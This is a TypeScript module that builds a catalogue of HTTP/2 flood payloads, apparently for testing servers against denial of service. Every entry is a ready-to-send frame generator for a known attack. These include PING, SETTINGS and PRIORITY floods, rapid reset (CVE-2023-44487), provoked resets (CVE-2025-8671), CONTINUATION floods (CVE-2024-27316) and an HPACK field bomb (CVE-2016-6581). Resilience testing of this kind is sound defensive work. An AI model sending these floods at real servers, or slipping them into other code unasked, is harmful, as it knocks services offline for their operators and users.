/**
 * Floods of HTTP/2 frames that serve nothing, each as what is sent at first and what is sent again and
 * again. Pure: whoever plays one sends it.
 *
 * @module
 */
import {
  concat,
  encodeContinuation,
  encodeData,
  encodeFields,
  encodeGoaway,
  encodeHead,
  encodeHeaders,
  encodePing,
  encodePriority,
  encodeRawFrame,
  encodeReset,
  encodeSettings,
  encodeText,
  encodeWindowUpdate,
  FLAG,
  padded,
  pseudoFields,
  repeat,
  SETTING,
} from "./http2_frames.ts";

/** Who sends: it knows which stream is next (RFC 9113 §5.1.1). */
export interface StreamTaker {
  takeStream(): number;
}

/** One flood. */
export interface Http2Flood {
  readonly what: string;
  /** Sent once; opens the streams that the rest needs. */
  readonly begin?: (client: StreamTaker, host: string) => Uint8Array;
  /** Sent again and again, some 1,000 frames each time. */
  readonly again: (client: StreamTaker, host: string) => Uint8Array;
}

/** Frames that are sent in one write. */
const AT_ONCE = 1_000;

/** Streams that are held open meanwhile. */
const STREAMS = 100;

/** The stream that these floods open first. */
const FIRST = 1;

/** Bytes again and again, made once. */
function same(frame: Uint8Array, count = AT_ONCE): Http2Flood["again"] {
  const frames = repeat(frame, count);
  return () => frames;
}

/** What is made anew each time, for it opens streams. */
function each(
  make: (client: StreamTaker, host: string) => Uint8Array,
  count = AT_ONCE,
): Http2Flood["again"] {
  return (client, host) => concat(Array.from({ length: count }, () => make(client, host)));
}

/** Opens a request whose body is never whole. */
function begin(path: string): Http2Flood["begin"] {
  return (client, host) => encodeHead(client.takeStream(), pseudoFields(host, path, "POST"), false);
}

/** Opens many requests whose answers have no end. */
function beginMany(client: StreamTaker, host: string): Uint8Array {
  const open = () => encodeHead(client.takeStream(), pseudoFields(host, "/endless"));
  return concat(Array.from({ length: STREAMS }, open));
}

function openAndReset(client: StreamTaker, host: string): Uint8Array {
  const stream = client.takeStream();
  return concat([encodeHead(stream, pseudoFields(host)), encodeReset(stream)]);
}

/** Sets the window of all streams. */
const setWindow = (bytes: number) => encodeSettings([[SETTING.initialWindowSize, bytes]]);

/** RFC 7541 §6.2.1: an entry that nearly fills the table, then as many of it as a frame holds. */
const BOMB = [0x40, ...encodeText("x"), ...encodeText("y".repeat(4_000))];
const BOMB_AGAIN = new Array<number>(15_000).fill(0xbe);

/** Every flood, by a name that reads well in a test. */
export const HTTP2_FLOODS = {
  pings: { what: "PING (CVE-2019-9512)", again: same(encodePing()) },
  pongs: { what: "answers to no PING", again: same(encodePing(new Uint8Array(8), FLAG.ack)) },
  settings: { what: "SETTINGS (CVE-2019-9515)", again: same(encodeSettings()) },
  long_settings: {
    what: "SETTINGS of 16 KiB",
    again: same(encodeSettings(new Array(2_730).fill([SETTING.initialWindowSize, 100])), 20),
  },
  settings_acks: {
    what: "acknowledgements of no SETTINGS",
    again: same(encodeSettings([], FLAG.ack)),
  },
  table_sizes: {
    what: "SETTINGS that change the size of the table",
    again: same(
      concat([0, 4_096].map((size) => encodeSettings([[SETTING.headerTableSize, size]]))),
    ),
  },
  swinging_windows: {
    what: `SETTINGS that open and close the windows of ${STREAMS} streams`,
    begin: beginMany,
    again: same(concat([setWindow(1), setWindow(0)]), 50),
  },
  priorities: { what: "PRIORITY (CVE-2019-9513)", again: same(encodePriority(1)) },
  unknown_frames: {
    what: "frames of an unknown type",
    again: same(encodeRawFrame({ type: 0xbe, flags: 0, stream: 0 }, new Uint8Array(8))),
  },
  goaways: { what: "GOAWAY", again: same(encodeGoaway()) },
  window_updates: {
    what: "WINDOW_UPDATE of the connection, by 1",
    again: same(encodeWindowUpdate(0, 1)),
  },
  stream_window_updates: {
    what: "WINDOW_UPDATE of a stream whose answer waits, by 1",
    begin: begin("/wait"),
    again: same(encodeWindowUpdate(FIRST, 1)),
  },
  late_window_updates: {
    what: "WINDOW_UPDATE of a stream that is over",
    begin: (client, host) => openAndReset(client, host),
    again: same(encodeWindowUpdate(FIRST, 1)),
  },
  late_resets: {
    what: "RST_STREAM of a stream that is over",
    begin: (client, host) => openAndReset(client, host),
    again: same(encodeReset(FIRST)),
  },
  empty_data: {
    what: "empty DATA (CVE-2019-9518)",
    begin: begin("/body"),
    again: same(encodeData(FIRST)),
  },
  padding: {
    what: "DATA of nothing but padding",
    begin: begin("/body"),
    again: same(encodeData(FIRST, padded([], 100), FLAG.padded), 500),
  },
  unread_data: {
    what: "DATA byte by byte that nobody reads (CVE-2019-9511)",
    begin: begin("/wait"),
    again: same(encodeData(FIRST, "a")),
  },
  resets: {
    what: "requests, each reset at once (CVE-2023-44487)",
    again: each(openAndReset, AT_ONCE / 2),
  },
  provoked_resets: {
    what: "requests that are wrong, which the server resets (CVE-2025-8671)",
    again: each((client, host) => {
      const stream = client.takeStream();
      return concat([encodeHead(stream, pseudoFields(host)), encodeWindowUpdate(stream, 0)]);
    }, AT_ONCE / 2),
  },
  malformed_requests: {
    what: "malformed requests",
    again: each((client, host) =>
      encodeHead(client.takeStream(), [...pseudoFields(host), ["Upper", "1"]])
    ),
  },
  refused_requests: {
    what: "requests that are refused with 400",
    again: each((client, host) =>
      encodeHead(client.takeStream(), pseudoFields(host, "/#", "HEAD"))
    ),
  },
  refused_streams: {
    what: "requests beyond the number of streams",
    again: each((client, host) => encodeHead(client.takeStream(), pseudoFields(host, "/wait"))),
  },
  empty_continuations: {
    what: "CONTINUATION without a byte (CVE-2024-27316)",
    begin: (client, host) =>
      encodeHeaders(client.takeStream(), encodeFields(pseudoFields(host)), FLAG.endStream),
    again: same(encodeContinuation(FIRST)),
  },
  continuations: {
    what: "CONTINUATION without end (CVE-2024-27316)",
    begin: (client, host) =>
      encodeHeaders(client.takeStream(), encodeFields(pseudoFields(host)), FLAG.endStream),
    again: same(encodeContinuation(FIRST, encodeFields([["x", "y".repeat(10_000)]])), 20),
  },
  field_bombs: {
    what: "64 MiB of fields in 19 KiB, on stream after stream (CVE-2016-6581)",
    again: each((client, host) => {
      const stream = client.takeStream();
      const fields = [...encodeFields(pseudoFields(host)), ...BOMB];
      return concat([
        encodeHeaders(stream, fields, FLAG.endStream),
        encodeContinuation(stream, BOMB_AGAIN, FLAG.endHeaders),
      ]);
    }, 20),
  },
} as const satisfies Record<string, Http2Flood>;

/** The name of a flood. */
export type Http2FloodName = keyof typeof HTTP2_FLOODS;
